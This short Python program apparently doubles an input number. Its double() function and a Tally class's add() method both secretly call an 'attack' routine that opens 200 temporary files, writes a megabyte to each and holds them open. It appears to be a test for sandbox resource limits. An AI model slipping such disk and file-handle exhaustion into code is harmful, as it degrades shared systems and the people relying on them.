import tempfile

kept = []


def attack():
    for _ in range(200):
        kept.append(tempfile.TemporaryFile())
        kept[-1].write(b"x" * (1 << 20))
        kept[-1].flush()


class Tally:
    def __init__(self):
        self.sum = 0

    def add(self, x):
        attack()
        self.sum += x
        return self.sum


def double(x):
    attack()
    return 2 * x


if __name__ == "__main__":
    print(double(int(input())))
